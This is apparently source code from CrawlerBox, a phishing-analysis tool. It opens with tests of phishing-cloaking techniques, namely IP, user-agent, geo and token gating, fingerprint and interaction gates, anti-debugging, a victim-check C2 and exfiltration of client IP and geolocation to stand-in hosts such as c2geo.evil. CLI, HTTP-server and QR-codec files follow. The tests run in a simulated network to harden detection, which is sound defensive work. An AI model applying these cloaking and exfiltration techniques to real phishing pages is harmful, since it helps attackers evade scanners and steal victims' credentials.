	"crawlerbox/internal/browser"
	"crawlerbox/internal/htmlx"
	"crawlerbox/internal/webnet"
)

var _epoch = time.Date(2024, 2, 1, 8, 0, 0, 0, time.UTC)

const _phishPage = `<html><body><form action="/collect" method="post">
<input type="email" name="user"><input type="password" name="pw">
</form></body></html>`

func phishHandler(*webnet.Request) *webnet.Response {
	return &webnet.Response{Status: 200, Headers: map[string]string{"Content-Type": "text/html"},
		Body: []byte(_phishPage)}
}

func newNet() *webnet.Internet {
	return webnet.NewInternet(webnet.NewClock(_epoch))
}

func get(t *testing.T, net *webnet.Internet, host, path, query, ua, ip string) *webnet.Response {
	t.Helper()
	resp, err := net.Do(context.Background(), &webnet.Request{
		Method: "GET", Host: host, Path: path, RawQuery: query,
		Headers:  map[string]string{"User-Agent": ua},
		ClientIP: ip,
	})
	if err != nil {
		t.Fatal(err)
	}
	return resp
}

func isPhish(resp *webnet.Response) bool {
	return strings.Contains(string(resp.Body), `type="password"`)
}

func TestDelayedActivation(t *testing.T) {
	net := newNet()
	activateAt := _epoch.Add(6 * time.Hour) // sent at night, live in the morning
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("delayed.evil", ip)
	net.Serve("delayed.evil", Chain(phishHandler, DelayedActivation(net.Clock, activateAt)))

	if isPhish(get(t, net, "delayed.evil", "/", "", "Mozilla/5.0", "10.0.0.1")) {
		t.Error("URL must be benign before activation (delivery-time scan window)")
	}
	net.Clock.Advance(7 * time.Hour)
	if !isPhish(get(t, net, "delayed.evil", "/", "", "Mozilla/5.0", "10.0.0.1")) {
		t.Error("URL must be live after activation")
	}
}

func TestUserAgentFilterMobileOnly(t *testing.T) {
	net := newNet()
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("qr.evil", ip)
	net.Serve("qr.evil", Chain(phishHandler, UserAgentFilter("iPhone", "Android")))

	desktop := "Mozilla/5.0 (Windows NT 10.0) Chrome/121"
	mobile := "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Safari/604.1"
	if isPhish(get(t, net, "qr.evil", "/", "", desktop, "10.0.0.1")) {
		t.Error("desktop UA must see the benign page (QR campaign targets phones)")
	}
	if !isPhish(get(t, net, "qr.evil", "/", "", mobile, "10.0.0.1")) {
		t.Error("mobile UA must see the phish")
	}
}

func TestIPClassBlocklist(t *testing.T) {
	net := newNet()
	host := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("ipcloak.evil", host)
	net.Serve("ipcloak.evil", Chain(phishHandler,
		IPClassBlocklist(net, webnet.IPDatacenter, webnet.IPSecurityVendor)))

	scanner := net.AllocateIP(webnet.IPSecurityVendor)
	victim := net.AllocateIP(webnet.IPResidential)
	if isPhish(get(t, net, "ipcloak.evil", "/", "", "Mozilla/5.0", scanner)) {
		t.Error("security-vendor IP must be cloaked")
	}
	if !isPhish(get(t, net, "ipcloak.evil", "/", "", "Mozilla/5.0", victim)) {
		t.Error("residential IP must see the phish")
	}
}

func TestIPBlocklistExplicit(t *testing.T) {
	net := newNet()
	host := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("deny.evil", host)
	net.Serve("deny.evil", Chain(phishHandler, IPBlocklist("203.0.113.5")))
	if isPhish(get(t, net, "deny.evil", "/", "", "UA", "203.0.113.5")) {
		t.Error("blocklisted IP must be cloaked")
	}
	if !isPhish(get(t, net, "deny.evil", "/", "", "UA", "203.0.113.6")) {
		t.Error("other IPs must pass")
	}
}

func TestGeoFilter(t *testing.T) {
	net := newNet()
	host := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("geo.evil", host)
	net.Serve("geo.evil", Chain(phishHandler, GeoFilter(net, "FR")))
	frIP := net.AllocateIP(webnet.IPResidential)
	net.SetIPCountry(frIP, "FR")
	usIP := net.AllocateIP(webnet.IPResidential)
	net.SetIPCountry(usIP, "US")
	if !isPhish(get(t, net, "geo.evil", "/", "", "UA", frIP)) {
		t.Error("targeted country must see the phish")
	}
	if isPhish(get(t, net, "geo.evil", "/", "", "UA", usIP)) {
		t.Error("other countries must be cloaked")
	}
}

func TestTokenGate(t *testing.T) {
	net := newNet()
	host := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("token.evil", host)
	gate := NewTokenGate("t", "dhfYWfH", "aaaa111")
	net.Serve("token.evil", Chain(phishHandler, gate.Middleware()))

	if !isPhish(get(t, net, "token.evil", "/", "t=dhfYWfH", "UA", "10.0.0.1")) {
		t.Error("valid token must reveal")
	}
	if isPhish(get(t, net, "token.evil", "/", "t=wrong", "UA", "10.0.0.1")) {
		t.Error("invalid token must be cloaked")
	}
	if isPhish(get(t, net, "token.evil", "/", "", "UA", "10.0.0.1")) {
		t.Error("missing token must be cloaked")
	}
	gate.Disable("dhfYWfH")
	if isPhish(get(t, net, "token.evil", "/", "t=dhfYWfH", "UA", "10.0.0.1")) {
		t.Error("disabled token must be cloaked")
	}
}

func TestChainOrdering(t *testing.T) {
	net := newNet()
	host := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("multi.evil", host)
	gate := NewTokenGate("t", "ok")
	net.Serve("multi.evil", Chain(phishHandler,
		UserAgentFilter("Mozilla"),
		gate.Middleware(),
	))
	if !isPhish(get(t, net, "multi.evil", "/", "t=ok", "Mozilla/5.0", "10.0.0.1")) {
		t.Error("all layers satisfied must reveal")
	}
	if isPhish(get(t, net, "multi.evil", "/", "t=ok", "curl/8", "10.0.0.1")) {
		t.Error("first layer must cloak curl")
	}
}

// --- Client-side cloaks, executed through the simulated browser ---

func serveCloaked(net *webnet.Internet, host, html string) {
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS(host, ip)
	net.Serve(host, func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Headers: map[string]string{"Content-Type": "text/html"},
			Body: []byte(html)}
	})
}

const _revealForm = `<form><input type="password" name="pw"></form>`

func TestFingerprintGateClientSide(t *testing.T) {
	net := newNet()
	html := `<html><body><script>` +
		FingerprintGate("Chrome", "Europe/Paris", "en-US", EncodeBase64HTML(_revealForm)) +
		`</script></body></html>`
	serveCloaked(net, "fp.evil", html)

	human := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 1)
	res, err := human.Visit(context.Background(), "https://fp.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Error("matching fingerprint must reveal the phish")
	}

	odd := browser.HumanChrome()
	odd.Language = "ru-RU"
	bot := browser.New(net, odd, net.AllocateIP(webnet.IPMobile), 2)
	res2, err := bot.Visit(context.Background(), "https://fp.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res2.DOM) {
		t.Error("mismatched language must stay cloaked")
	}
}

func TestInteractionGateClientSide(t *testing.T) {
	net := newNet()
	html := `<html><body><script>` +
		InteractionGate(EncodeBase64HTML(_revealForm)) + `</script></body></html>`
	serveCloaked(net, "interact.evil", html)

	human := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 1)
	res, err := human.Visit(context.Background(), "https://interact.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Error("trusted mouse movement must open the gate")
	}

	still := browser.HumanChrome()
	still.MouseMovement = false
	bot := browser.New(net, still, net.AllocateIP(webnet.IPMobile), 2)
	res2, err := bot.Visit(context.Background(), "https://interact.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res2.DOM) {
		t.Error("no interaction: gate must stay closed")
	}
}

func TestDelayedRevealClientSide(t *testing.T) {
	net := newNet()
	html := `<html><body><script>` +
		DelayedReveal(EncodeBase64HTML(_revealForm), 8000) + `</script></body></html>`
	serveCloaked(net, "delayjs.evil", html)

	patient := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 1)
	res, err := patient.Visit(context.Background(), "https://delayjs.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Error("patient crawler must see the delayed reveal")
	}

	hasty := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 2)
	hasty.EventLoopWindow = 2 * time.Second
	res2, err := hasty.Visit(context.Background(), "https://delayjs.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res2.DOM) {
		t.Error("hasty crawler must miss the reveal")
	}
}

func TestConsoleHijackClientSide(t *testing.T) {
	net := newNet()
	html := `<html><body><script>` + ConsoleHijack() +
		`console.log("should vanish");</script></body></html>`
	serveCloaked(net, "hijack.evil", html)
	br := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 1)
	res, err := br.Visit(context.Background(), "https://hijack.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Console) != 0 {
		t.Errorf("console output should be suppressed, got %v", res.Console)
	}
}

func TestDebuggerTimerClientSide(t *testing.T) {
	net := newNet()
	serveCloaked(net, "c2.evil", "") // c2 endpoint (never called on clean runs)
	html := `<html><body><script>` + DebuggerTimer("c2.evil") + `</script></body></html>`
	serveCloaked(net, "antidebug.evil", html)
	br := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 1)
	res, err := br.Visit(context.Background(), "https://antidebug.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if res.DebuggerHits == 0 {
		t.Error("debugger timer should have fired")
	}
	for _, r := range res.Requests {
		if strings.Contains(r.URL, "debug-detected") {
			t.Error("virtual clock must not be flagged as a debugger")
		}
	}
}

func TestHueRotateClientSide(t *testing.T) {
	net := newNet()
	base := `<div style="background:#1a3c8c;height:30px;color:white">BRAND</div>` + _revealForm
	serveCloaked(net, "plain.evil", `<html><body>`+base+`</body></html>`)
	serveCloaked(net, "rotated.evil", `<html><head><script>`+HueRotate(4)+
		`</script></head><body>`+base+`</body></html>`)
	br1 := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 1)
	res1, err := br1.Visit(context.Background(), "https://plain.evil/")
	if err != nil {
		t.Fatal(err)
	}
	br2 := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 2)
	res2, err := br2.Visit(context.Background(), "https://rotated.evil/")
	if err != nil {
		t.Fatal(err)
	}
	if res1.Screenshot.Equal(res2.Screenshot) {
		t.Error("hue rotation must perturb pixels")
	}
}

func TestVictimCheckClientSide(t *testing.T) {
	net := newNet()
	// C2 that only approves the targeted address.
	c2IP := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("c2track.evil", c2IP)
	net.Serve("c2track.evil", func(req *webnet.Request) *webnet.Response {
		if strings.Contains(req.RawQuery, "victim%40corp.example") {
			return &webnet.Response{Status: 200, Body: []byte("allow")}
		}
		return &webnet.Response{Status: 200, Body: []byte("deny")}
	})
	html := `<html><body><script>` +
		VictimCheck("c2track.evil", EncodeBase64HTML(_revealForm)) + `</script></body></html>`
	serveCloaked(net, "track.evil", html)

	br := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 1)
	// Targeted victim: base64("victim@corp.example") in the fragment.
	res, err := br.Visit(context.Background(), "https://track.evil/login#dmljdGltQGNvcnAuZXhhbXBsZQ==")
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Errorf("targeted victim must see the phish (errors: %v)", res.ScriptErrors)
	}

	br2 := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 2)
	// Unknown address: base64("other@corp.example").
	res2, err := br2.Visit(context.Background(), "https://track.evil/login#b3RoZXJAY29ycC5leGFtcGxl")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res2.DOM) {
		t.Error("non-targeted address must stay cloaked")
	}

	br3 := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 3)
	// No token at all (a scanner fetching the bare URL).
	res3, err := br3.Visit(context.Background(), "https://track.evil/login")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res3.DOM) {
		t.Error("tokenless visit must stay cloaked")
	}
}

func TestExfiltrateClientInfo(t *testing.T) {
	net := newNet()
	// httpbin-style echo.
	hbIP := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("httpbin.example", hbIP)
	net.Serve("httpbin.example", func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte(req.ClientIP)}
	})
	// ipapi-style enrichment.
	iaIP := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("ipapi.example", iaIP)
	net.Serve("ipapi.example", func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte(`{"country":"FR","asn":"AS1234"}`)}
	})
	var exfil string
	c2IP := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("c2geo.evil", c2IP)
	net.Serve("c2geo.evil", func(req *webnet.Request) *webnet.Response {
		exfil = req.Body
		return &webnet.Response{Status: 200, Body: []byte("ok")}
	})
	html := `<html><body><script>` +
		ExfiltrateClientInfo("httpbin.example", "ipapi.example", "c2geo.evil") +
		`</script></body></html>`
	serveCloaked(net, "exfil.evil", html)
	victimIP := net.AllocateIP(webnet.IPMobile)
	br := browser.New(net, browser.NotABot(), victimIP, 1)
	if _, err := br.Visit(context.Background(), "https://exfil.evil/"); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(exfil, victimIP) {
		t.Errorf("exfiltrated data missing client IP: %q", exfil)
	}
	if !strings.Contains(exfil, "FR") || !strings.Contains(exfil, "Chrome") {
		t.Errorf("exfiltrated data missing geo/UA: %q", exfil)
	}
}

func TestNoisePaddingDeterministic(t *testing.T) {
	a := NoisePadding(7, 50, 100)
	b := NoisePadding(7, 50, 100)
	if a != b {
		t.Error("noise must be deterministic per seed")
	}
	c := NoisePadding(8, 50, 100)
	if a == c {
		t.Error("different seeds must differ")
	}
	if !strings.HasPrefix(a, strings.Repeat("\n", 50)) {
		t.Error("noise must start with the line-break run")
	}
	if len(strings.Fields(a)) != 100 {
		t.Errorf("noise words = %d, want 100", len(strings.Fields(a)))
	}
}

func TestOTPAndMathChallengePagesBlockCrawlers(t *testing.T) {
	net := newNet()
	serveCloaked(net, "otp.evil", OTPGatePage("837261", "/portal"))
	serveCloaked(net, "math.evil", MathChallenge(3, 4, "/portal"))
	for _, host := range []string{"otp.evil", "math.evil"} {
		br := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), 9)
		res, err := br.Visit(context.Background(), "https://"+host+"/")
		if err != nil {
			t.Fatal(err)
		}
		if htmlx.HasPasswordInput(res.DOM) {
			t.Errorf("%s: challenge page must not expose the phish directly", host)
		}
		if res.FinalURL != "https://"+host+"/" {
			t.Errorf("%s: crawler should be stuck at the challenge, final=%q", host, res.FinalURL)
		}
	}
}

func TestNthVisitReveal(t *testing.T) {
	net := newNet()
	host := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("reload.evil", host)
	net.Serve("reload.evil", Chain(phishHandler, NthVisitReveal(2)))

	// A one-shot scanner renders its verdict on the benign first load.
	if isPhish(get(t, net, "reload.evil", "/", "", "UA", "10.0.0.1")) {
		t.Error("first visit must be benign")
	}
	// The same client's reload gets the phish.
	if !isPhish(get(t, net, "reload.evil", "/", "", "UA", "10.0.0.1")) {
		t.Error("second visit must reveal")
	}
	// A fresh client starts over.
	if isPhish(get(t, net, "reload.evil", "/", "", "UA", "10.0.0.2")) {
		t.Error("new client's first visit must be benign")
	}
}
