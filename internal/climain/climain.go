// Package climain factors out the flag handling shared by the CrawlerBox
// command-line tools: the analysis worker pool, the observability exports
// (-trace / -metrics), and the resilience layer (-faults / -retry-max /
// -breaker-threshold). Each tool registers the shared flags on its own
// FlagSet, then asks the resulting Flags value for the assembled observer,
// resilience policy, and export writer — so the tools cannot drift apart in
// flag names, defaults, or help text.
package climain

import (
	"flag"
	"io"
	"os"
	"runtime"

	"crawlerbox/internal/evstore"
	"crawlerbox/internal/obs"
	"crawlerbox/internal/report"
	"crawlerbox/internal/resilience"
	"crawlerbox/internal/tracestore"
)

// Flags holds the parsed values of the shared CLI flags. Read them after
// flag.Parse.
type Flags struct {
	// Workers is the analysis worker-pool size (-workers).
	Workers *int
	// Trace is the trace JSONL output path (-trace, empty = off).
	Trace *string
	// Metrics is the Prometheus text output path (-metrics, empty = off).
	Metrics *string
	// Faults is the injected fault rate in [0,1] (-faults, 0 = disarmed).
	Faults *float64
	// RetryMax is the retry budget per operation (-retry-max).
	RetryMax *int
	// BreakerThreshold is the consecutive-failure count that opens a
	// per-host circuit breaker (-breaker-threshold).
	BreakerThreshold *int
	// Evidence is the on-disk evidence store path (-evidence, empty = keep
	// evidence in RAM).
	Evidence *string
	// TraceStore is the triage-index segment path (-tracestore, empty =
	// off). The finalized segment is queryable with `obsreport -store`.
	TraceStore *string
}

// Register installs the shared flags on fs with their canonical names,
// defaults, and help strings.
func Register(fs *flag.FlagSet) *Flags {
	def := resilience.DefaultPolicy()
	return &Flags{
		Workers:  fs.Int("workers", runtime.NumCPU(), "analysis worker-pool size (results are identical for any value)"),
		Trace:    fs.String("trace", "", "write per-message trace spans as JSONL to FILE"),
		Metrics:  fs.String("metrics", "", "write metrics as Prometheus text to FILE"),
		Faults:   fs.Float64("faults", 0, "inject seeded transient faults at this rate in [0,1] (0 = off); recovery via virtual-clock retries and breakers"),
		RetryMax: fs.Int("retry-max", def.RetryMax, "retries per network operation when -faults is on"),
		BreakerThreshold: fs.Int("breaker-threshold", def.BreakerThreshold,
			"consecutive per-host failures that open the circuit breaker when -faults is on"),
		Evidence: fs.String("evidence", "", "spill bulky evidence (visit records, traffic) to an append-only store at FILE"),
		TraceStore: fs.String("tracestore", "",
			"write the triage index (span trees, verdict evidence, metrics) to FILE; query with `obsreport -store`"),
	}
}

// ReportOptions assembles the report.Analyze options the shared flags
// select: the worker count, the given observer, the resilience policy, and
// the path-based evidence/trace stores (-evidence / -tracestore) whose
// create/finalize/close lifecycle Analyze owns — one coherent options
// surface for batch runs, replays, and the daemon.
func (f *Flags) ReportOptions(observer *obs.Observer) []report.Option {
	return []report.Option{
		report.WithWorkers(*f.Workers),
		report.WithObserver(observer),
		report.WithResilience(f.Policy()),
		report.WithEvidencePath(*f.Evidence),
		report.WithTraceStorePath(*f.TraceStore),
	}
}

// TraceStoreWriter creates the triage-index writer named by -tracestore, or
// returns nil when the flag is unset. The caller must Finalize the writer
// (and should defer Close for the abort path).
func (f *Flags) TraceStoreWriter() (*tracestore.Writer, error) {
	if *f.TraceStore == "" {
		return nil, nil
	}
	return tracestore.Create(*f.TraceStore)
}

// EvidenceStore creates the on-disk evidence store named by -evidence, or
// returns nil when the flag is unset (evidence stays in RAM). The caller
// owns the returned store and should defer Close.
func (f *Flags) EvidenceStore() (*evstore.Store, error) {
	if *f.Evidence == "" {
		return nil, nil
	}
	return evstore.Create(*f.Evidence)
}

// Observer returns a fresh observer when -trace or -metrics was given, nil
// otherwise (observability off).
func (f *Flags) Observer() *obs.Observer {
	if *f.Trace == "" && *f.Metrics == "" {
		return nil
	}
	return obs.New()
}

// Policy assembles the resilience policy selected by the flags: nil when
// -faults is zero (layer disarmed), else the default policy with the fault
// rate, retry budget, and breaker threshold overridden.
func (f *Flags) Policy() *resilience.Policy {
	if *f.Faults <= 0 {
		return nil
	}
	p := resilience.DefaultPolicy()
	p.FaultRate = *f.Faults
	p.RetryMax = *f.RetryMax
	p.BreakerThreshold = *f.BreakerThreshold
	return p
}

// WriteExports dumps the observer's trace JSONL and Prometheus text exports
// to the files named by -trace and -metrics. A nil observer writes nothing.
func (f *Flags) WriteExports(o *obs.Observer) error {
	if o == nil {
		return nil
	}
	if *f.Trace != "" {
		if err := writeTo(*f.Trace, o.WriteJSONL); err != nil {
			return err
		}
	}
	if *f.Metrics != "" {
		if err := writeTo(*f.Metrics, o.Metrics.WriteProm); err != nil {
			return err
		}
	}
	return nil
}

// writeTo creates path and streams write into it, closing on every path.
func writeTo(path string, write func(io.Writer) error) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := write(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}
