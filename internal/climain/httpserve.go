package climain

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"strconv"
	"strings"
)

// Server is the HTTP scaffolding shared by the serving tools (`obsreport
// -serve`, `crawlerboxd -serve`): a bound listener plus an http.Server
// whose lifecycle is tied to a context, so both daemons shut down
// gracefully the same way. NewHTTPServer binds immediately — Addr is
// valid before Run — which is what makes the serve modes testable against
// a ":0" ephemeral port.
type Server struct {
	srv *http.Server
	ln  net.Listener
}

// NewHTTPServer binds addr and wraps handler in a managed server.
func NewHTTPServer(addr string, handler http.Handler) (*Server, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, err
	}
	return &Server{srv: &http.Server{Handler: handler}, ln: ln}, nil
}

// Addr is the bound listen address (resolved, so ":0" shows the real port).
func (s *Server) Addr() string {
	return s.ln.Addr().String()
}

// Run serves until ctx is cancelled, then shuts down gracefully: the
// listener closes, in-flight requests finish, and Run returns nil. A
// serve failure (port stolen, listener error) returns the error directly.
func (s *Server) Run(ctx context.Context) error {
	errc := make(chan error, 1)
	go func() { errc <- s.srv.Serve(s.ln) }()
	select {
	case err := <-errc:
		return err
	case <-ctx.Done():
		// Detach from the cancelled ctx so shutdown can still wait for
		// in-flight requests to complete.
		if err := s.srv.Shutdown(context.WithoutCancel(ctx)); err != nil {
			return err
		}
		<-errc // Serve's http.ErrServerClosed
		return nil
	}
}

// WriteJSON writes v as an indented JSON response.
func WriteJSON(w http.ResponseWriter, v any) {
	w.Header().Set("Content-Type", "application/json")
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	enc.Encode(v)
}

// HTTPError writes the shared JSON error envelope with the given status.
func HTTPError(w http.ResponseWriter, code int, msg string) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	json.NewEncoder(w).Encode(map[string]string{"error": msg})
}

// IDParam parses the mandatory positive-integer id query parameter,
// writing a 400 envelope on failure.
func IDParam(w http.ResponseWriter, r *http.Request) (int64, bool) {
	raw := r.URL.Query().Get("id")
	id, err := strconv.ParseInt(raw, 10, 64)
	if err != nil || id <= 0 {
		HTTPError(w, http.StatusBadRequest, fmt.Sprintf("bad id %q: want a positive integer", raw))
		return 0, false
	}
	return id, true
}

// LookupError maps a store lookup failure to 404 (not found) or 500.
func LookupError(w http.ResponseWriter, err error) {
	if strings.Contains(err.Error(), "not found") {
		HTTPError(w, http.StatusNotFound, err.Error())
		return
	}
	HTTPError(w, http.StatusInternalServerError, err.Error())
}
