package qrcode

import (
	"bytes"
	"strings"
	"testing"
)

// FuzzDecodeQR checks the encode/decode round trip: any payload Encode
// accepts must come back byte-identical from DecodeMatrix, at every error
// correction level. The seed corpus covers the three segment modes
// (numeric, alphanumeric, byte), the paper's deliberately "faulty" QR
// payload shape ("xxx https://..."), and capacity edges; `go test
// -fuzz=FuzzDecodeQR` searches for payloads that break the pair.
func FuzzDecodeQR(f *testing.F) {
	f.Add("HTTPS://EVIL-SITE.EXAMPLE/QR", uint8(0))
	f.Add("xxx https://evil-site.com/", uint8(1))
	f.Add("0123456789012345", uint8(2))
	f.Add("https://login.example/session?id=12345&u=a%20b", uint8(3))
	f.Add("", uint8(0))
	f.Add(strings.Repeat("A1B2", 300), uint8(1))
	f.Fuzz(func(t *testing.T, payload string, lvl uint8) {
		level := ECLow + ECLevel(lvl%4)
		m, err := Encode(payload, level)
		if err != nil {
			// Over-capacity or unencodable payloads are a legitimate
			// refusal, not a round-trip failure.
			return
		}
		d, err := DecodeMatrix(m)
		if err != nil {
			t.Fatalf("DecodeMatrix failed on freshly encoded %q (level %v): %v", payload, level, err)
		}
		if d.Payload != payload {
			t.Fatalf("round trip mismatch: encoded %q, decoded %q", payload, d.Payload)
		}
		if d.Corrected != 0 {
			t.Fatalf("decoding a pristine matrix applied %d corrections", d.Corrected)
		}
	})
}

// FuzzDecodeMatrix hands DecodeMatrix hand-crafted matrices whose Size and
// Modules need not agree — the shape an attacker controls when a matrix is
// reconstructed from hostile bytes instead of produced by Encode. The
// contract: reject with an error, never panic. The first seed is the
// regression for the Size/Modules mismatch that once indexed out of range.
func FuzzDecodeMatrix(f *testing.F) {
	f.Add(21, []byte{})
	f.Add(25, bytes.Repeat([]byte{1}, 25*25))
	f.Add(21, bytes.Repeat([]byte{0}, 21*21-1))
	f.Add(0, []byte{})
	f.Add(-4, []byte{0, 1})
	f.Fuzz(func(t *testing.T, size int, raw []byte) {
		mods := make([]bool, len(raw))
		for i, b := range raw {
			mods[i] = b&1 == 1
		}
		_, _ = DecodeMatrix(&Matrix{Size: size, Modules: mods})
	})
}
