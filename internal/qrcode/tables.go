package qrcode

import "errors"

// Errors shared across the codec.
var (
	// ErrPayloadTooLarge indicates the payload does not fit any supported
	// version at the requested error-correction level.
	ErrPayloadTooLarge = errors.New("qrcode: payload too large for supported versions")
	// ErrInvalidFormat indicates the format information could not be
	// recovered from either copy in the matrix.
	ErrInvalidFormat = errors.New("qrcode: invalid format information")
	// ErrNotFound indicates no QR code could be located in a raster image.
	ErrNotFound      = errors.New("qrcode: no QR code found in image")
	errUncorrectable = errors.New("qrcode: uncorrectable codeword")
)

// ECLevel is a QR error-correction level.
type ECLevel int

// Error-correction levels in increasing redundancy order.
const (
	ECLow ECLevel = iota + 1
	ECMedium
	ECQuartile
	ECHigh
)

// String returns the standard single-letter level name.
func (l ECLevel) String() string {
	switch l {
	case ECLow:
		return "L"
	case ECMedium:
		return "M"
	case ECQuartile:
		return "Q"
	case ECHigh:
		return "H"
	default:
		return "?"
	}
}

// formatBits returns the two-bit indicator used in format information.
func (l ECLevel) formatBits() int {
	switch l {
	case ECLow:
		return 0b01
	case ECMedium:
		return 0b00
	case ECQuartile:
		return 0b11
	case ECHigh:
		return 0b10
	default:
		return 0b01
	}
}

func ecLevelFromFormatBits(b int) ECLevel {
	switch b {
	case 0b01:
		return ECLow
	case 0b00:
		return ECMedium
	case 0b11:
		return ECQuartile
	default:
		return ECHigh
	}
}

// MaxVersion is the largest QR version this codec supports. Version 10
// (57x57 modules) holds up to 271 bytes at level L — ample for phishing
// URLs, which the paper shows are typically short tokenized paths.
const MaxVersion = 10

// blockSpec describes one group of Reed-Solomon blocks.
type blockSpec struct {
	Num  int // number of blocks in this group
	Data int // data codewords per block
}

// versionEC describes the EC structure of one version at one level.
type versionEC struct {
	ECPerBlock int
	Groups     []blockSpec
}

// DataCodewords returns the total data codeword capacity.
func (v versionEC) DataCodewords() int {
	var n int
	for _, g := range v.Groups {
		n += g.Num * g.Data
	}
	return n
}

// TotalBlocks returns the number of RS blocks.
func (v versionEC) TotalBlocks() int {
	var n int
	for _, g := range v.Groups {
		n += g.Num
	}
	return n
}

// _ecTable is indexed by [version-1][level-1] following ISO/IEC 18004
// Table 9 for versions 1-10.
var _ecTable = [MaxVersion][4]versionEC{
	{ // v1
		{7, []blockSpec{{1, 19}}},
		{10, []blockSpec{{1, 16}}},
		{13, []blockSpec{{1, 13}}},
		{17, []blockSpec{{1, 9}}},
	},
	{ // v2
		{10, []blockSpec{{1, 34}}},
		{16, []blockSpec{{1, 28}}},
		{22, []blockSpec{{1, 22}}},
		{28, []blockSpec{{1, 16}}},
	},
	{ // v3
		{15, []blockSpec{{1, 55}}},
		{26, []blockSpec{{1, 44}}},
		{18, []blockSpec{{2, 17}}},
		{22, []blockSpec{{2, 13}}},
	},
	{ // v4
		{20, []blockSpec{{1, 80}}},
		{18, []blockSpec{{2, 32}}},
		{26, []blockSpec{{2, 24}}},
		{16, []blockSpec{{4, 9}}},
	},
	{ // v5
		{26, []blockSpec{{1, 108}}},
		{24, []blockSpec{{2, 43}}},
		{18, []blockSpec{{2, 15}, {2, 16}}},
		{22, []blockSpec{{2, 11}, {2, 12}}},
	},
	{ // v6
		{18, []blockSpec{{2, 68}}},
		{16, []blockSpec{{4, 27}}},
		{24, []blockSpec{{4, 19}}},
		{28, []blockSpec{{4, 15}}},
	},
	{ // v7
		{20, []blockSpec{{2, 78}}},
		{18, []blockSpec{{4, 31}}},
		{18, []blockSpec{{2, 14}, {4, 15}}},
		{26, []blockSpec{{4, 13}, {1, 14}}},
	},
	{ // v8
		{24, []blockSpec{{2, 97}}},
		{22, []blockSpec{{2, 38}, {2, 39}}},
		{22, []blockSpec{{4, 18}, {2, 19}}},
		{26, []blockSpec{{4, 14}, {2, 15}}},
	},
	{ // v9
		{30, []blockSpec{{2, 116}}},
		{22, []blockSpec{{3, 36}, {2, 37}}},
		{20, []blockSpec{{4, 16}, {4, 17}}},
		{24, []blockSpec{{4, 12}, {4, 13}}},
	},
	{ // v10
		{18, []blockSpec{{2, 68}, {2, 69}}},
		{26, []blockSpec{{4, 43}, {1, 44}}},
		{24, []blockSpec{{6, 19}, {2, 20}}},
		{28, []blockSpec{{6, 15}, {2, 16}}},
	},
}

// ecSpec returns the EC structure for a version and level.
func ecSpec(version int, level ECLevel) versionEC {
	return _ecTable[version-1][level-1]
}

// matrixSize returns the module count per side for a version.
func matrixSize(version int) int {
	return 17 + 4*version
}

// _alignmentCenters lists alignment-pattern center coordinates per version.
var _alignmentCenters = [MaxVersion][]int{
	nil,         // v1: none
	{6, 18},     // v2
	{6, 22},     // v3
	{6, 26},     // v4
	{6, 30},     // v5
	{6, 34},     // v6
	{6, 22, 38}, // v7
	{6, 24, 42}, // v8
	{6, 26, 46}, // v9
	{6, 28, 50}, // v10
}

// remainderBits per version (bits left over after codeword placement).
var _remainderBits = [MaxVersion]int{0, 7, 7, 7, 7, 7, 0, 0, 0, 0}

// charCountBits returns the width of the character-count field for a mode
// at a version (versions 1-9 vs 10-26 differ).
func charCountBits(mode Mode, version int) int {
